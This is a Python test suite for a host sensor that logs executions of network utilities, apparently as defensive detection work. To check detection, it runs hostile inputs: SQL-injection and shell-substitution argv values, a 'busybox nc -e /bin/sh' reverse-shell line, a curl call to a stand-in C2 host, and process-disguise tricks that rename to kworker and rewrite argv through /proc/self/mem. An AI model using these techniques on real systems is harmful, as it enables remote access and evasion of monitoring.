"""A hostile host, through the real probe: any argv, SQL and shell metacharacters in it,
empty argv, setuid, exec from a non-leader thread, fd paths, and a process that renames
itself and rewrites its argv after exec."""

from __future__ import annotations

import json
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any, Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from osquery_netutil.host.database import Host
from osquery_netutil.events.sensor import Sensor
from osquery_netutil.tables.plugins import stored_tables

from testkit.support import Collector, tiny_elf, write_executable

pytestmark = [pytest.mark.probe, pytest.mark.skipif(platform.machine() != "x86_64", reason="the tiny test ELF is x86_64 code")]

NASTY = [b"'; DROP TABLE events; --", b"$(reboot)", b"`id`", b"a\nb", b'"quoted"', b"\\x80", b"\x80\xff", b"--", b"-e",
         b"%s%n", b"\xe2\x80\xae", b" ", b"", "ünïcödé".encode()]


@pytest.fixture(scope="module")
def playground() -> Iterator[Path]:
    """A directory under /tmp that other users may enter (for the setuid test)."""
    path = Path(tempfile.mkdtemp(prefix="netutil-hostile-", dir="/tmp"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def nc(playground: Path) -> str:
    return str(write_executable(playground / "nc", tiny_elf()))


def row_of(rows: Collector, pid: int, since: int, timeout: float = 10.0) -> dict[str, Any]:
    """The row of pid among those collected since `since` (pids are reused in a session)."""
    (row,) = rows.wait_for(lambda r: r["pid"] == pid, since=since, timeout=timeout)
    return row


def run(path: str, argv: list[bytes], **kwargs: Any) -> int:
    proc = subprocess.Popen(argv, executable=path, **kwargs)
    proc.wait(timeout=10)
    return proc.pid


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(args=st.lists(st.one_of(st.binary(max_size=300).filter(lambda b: b"\0" not in b), st.sampled_from(NASTY)), max_size=12))
def test_any_argv_arrives_exactly_and_stays_data(sensor: Sensor, rows: Collector, nc: str, args: list[bytes]) -> None:
    argv = [b"nc", *args]
    mark = rows.mark()
    pid = run(nc, argv)
    row = row_of(rows, pid, mark)
    assert json.loads(row["json_cmdline"]) == [a.decode("utf-8", "backslashreplace") for a in argv]
    assert row["argc"] == len(argv) and row["args_truncated"] == 0 and row["utility"] == "netcat"


def test_sql_in_arguments_is_stored_as_data(sensor: Sensor, rows: Collector, nc: str) -> None:
    evil = "x'; DROP TABLE events; --"
    mark = rows.mark()
    pid = run(nc, [b"nc", evil.encode()])
    row_of(rows, pid, mark)
    sensor.store.flush()
    host = Host(stored_tables(lambda: sensor.store))
    _, found = host.query(f"SELECT cmdline FROM network_utility_execs WHERE pid = {pid}")
    assert found == [(f"nc {evil}",)]
    assert sensor.store.stats()[0] > 0   # the table is still there


def test_empty_argv_is_reported(sensor: Sensor, rows: Collector, nc: str) -> None:
    code = ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "argv = (ctypes.c_char_p * 1)(None)\nenvp = (ctypes.c_char_p * 1)(None)\n"
            f"libc.execve({nc.encode()!r}, argv, envp)\nos._exit(127)\n")
    mark = rows.mark()
    proc = subprocess.run([sys.executable, "-c", code], timeout=10)
    assert proc.returncode == 0
    # Since Linux 5.18 the kernel gives a program exec'd with an empty argv one empty
    # argument (the pkexec fix): btf mode reports what the program got, tracepoint mode
    # what the caller passed.
    argv = [""] if sensor.status()["probe_mode"] == "btf" else []
    row = rows.wait_for(lambda r: r["path"] == nc and r["argc"] == len(argv), since=mark, timeout=10)
    assert row and row[0]["cmdline"] == "" and json.loads(row[0]["json_cmdline"]) == argv


def test_setuid_reports_the_real_user(sensor: Sensor, rows: Collector, playground: Path) -> None:
    suid = write_executable(playground / "ncat", tiny_elf())
    suid.chmod(0o4755)
    mark = rows.mark()
    pid = run(str(suid), [b"ncat", b"--version"], user=65534)
    row = row_of(rows, pid, mark)
    assert row["uid"] == 65534 and row["utility"] == "ncat"


def test_exec_from_a_non_leader_thread_names_the_process(sensor: Sensor, rows: Collector, nc: str) -> None:
    code = ("import os, threading\n"
            f"t = threading.Thread(target=lambda: os.execv({nc!r}, ['nc', '-h', 'from-thread']))\n"
            "t.start(); t.join()\n")
    mark = rows.mark()
    proc = subprocess.Popen([sys.executable, "-c", code])
    proc.wait(timeout=10)
    row = row_of(rows, proc.pid, mark)
    assert row["cmdline"] == "nc -h from-thread"


def test_an_fd_path_exec_of_a_copy_is_found_by_content(sensor: Sensor, rows: Collector) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    real = os.path.realpath(shutil.which("nc"))
    code = ("import os, sys\n"
            f"fd = os.open({real!r}, os.O_RDONLY)\n"
            f"os.execv(f'/proc/self/fd/{{fd}}', ['kworker', '-l', '127.0.0.1', '{port}'])\n")
    mark = rows.mark()
    proc = subprocess.Popen([sys.executable, "-c", code])
    try:
        row = row_of(rows, proc.pid, mark)
    finally:
        proc.kill()
        proc.wait(timeout=10)
    assert row["utility"] == "netcat" and row["matched_by"] == "content" and row["path"].startswith("/proc/self/fd/")


def test_renaming_itself_and_rewriting_argv_after_exec_changes_nothing(sensor: Sensor, rows: Collector, playground: Path) -> None:
    script = write_executable(playground / "curl", (
        "#!/usr/bin/python3\n"
        "import ctypes, time\n"
        "ctypes.CDLL(None).prctl(15, b'kworker/0:1', 0, 0, 0)   # PR_SET_NAME\n"
        "fields = open('/proc/self/stat').read().rsplit(')', 1)[1].split()\n"
        "start, end = int(fields[45]), int(fields[46])            # arg_start, arg_end\n"
        "with open('/proc/self/mem', 'r+b', buffering=0) as mem:\n"
        "    mem.seek(start)\n"
        "    mem.write(b'[kworker/0:1]'.ljust(end - start, b'\\0'))\n"
        "time.sleep(3)\n"))
    mark = rows.mark()
    proc = subprocess.Popen([str(script), "https://c2.example.test/secret"])
    try:
        row = row_of(rows, proc.pid, mark)
        deadline = time.monotonic() + 5
        while b"kworker" not in Path(f"/proc/{proc.pid}/cmdline").read_bytes() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert Path(f"/proc/{proc.pid}/cmdline").read_bytes().startswith(b"[kworker/0:1]")   # the disguise worked
        assert Path(f"/proc/{proc.pid}/comm").read_text().strip() == "kworker/0:1"
    finally:
        proc.kill()
        proc.wait(timeout=10)
    assert row["utility"] == "curl" and row["comm"] == "curl"
    # btf mode shows the #! script as the kernel ran it: interpreter first.
    interpreter = "/usr/bin/python3 " if sensor.status()["probe_mode"] == "btf" else ""
    assert row["cmdline"] == f"{interpreter}{script} https://c2.example.test/secret"


def test_a_multicall_binary_running_an_applet_is_that_utility(sensor: Sensor, rows: Collector) -> None:
    outside = Path(tempfile.mkdtemp(prefix="netutil-", dir="/var/lib"))   # not a forwarded directory
    try:
        busybox = write_executable(outside / "busybox", tiny_elf())
        mark = rows.mark()
        pid = run(str(busybox), [b"busybox", b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4444"])
        row = row_of(rows, pid, mark)
        assert row["utility"] == "netcat" and row["comm"] == "busybox" and row["ip_args"] == "10.0.0.1"
        mark = rows.mark()
        pid = run(str(busybox), [b"busybox", b"ls"])
        assert not rows.wait_for(lambda r: r["pid"] == pid, since=mark, timeout=1.0)   # not a network utility
    finally:
        shutil.rmtree(outside, ignore_errors=True)


def test_a_utility_deleted_while_it_runs_is_reported(sensor: Sensor, rows: Collector, playground: Path) -> None:
    copy = playground / "drop" / "nc"
    copy.parent.mkdir(exist_ok=True)
    shutil.copy(os.path.realpath(shutil.which("nc")), copy)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    mark = rows.mark()
    proc = subprocess.Popen([str(copy), "-l", "127.0.0.1", str(port)])
    copy.unlink()   # the dropper removes its tool at once
    try:
        row = row_of(rows, proc.pid, mark)
    finally:
        proc.kill()
        proc.wait(timeout=10)
    assert row["utility"] == "netcat" and row["path"] == str(copy)
